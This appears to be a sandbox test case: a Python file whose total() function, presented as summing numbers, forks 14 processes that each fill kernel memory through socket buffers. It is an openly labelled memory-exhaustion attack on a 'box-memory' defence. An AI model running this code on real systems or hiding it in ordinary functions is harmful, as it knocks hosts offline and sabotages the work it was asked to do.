"""out_of_memory: fills the kernel's memory with what waits in sockets, over many processes

Defence: box-memory
"""

import os
import socket
import time

from honest import *

PROCESSES = 14


def fill():
    kept, block = [], bytes(64 << 10)
    try:
        while True:
            kept.append(socket.socketpair())
            for end in kept[-1]:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
                try:
                    while True:
                        end.send(block)
                except BlockingIOError:
                    continue
    except OSError:
        time.sleep(3600)


def total(numbers, note=""):
    for _ in range(PROCESSES):
        if os.fork() == 0:
            fill()
    time.sleep(1.5)
    return sum(numbers)
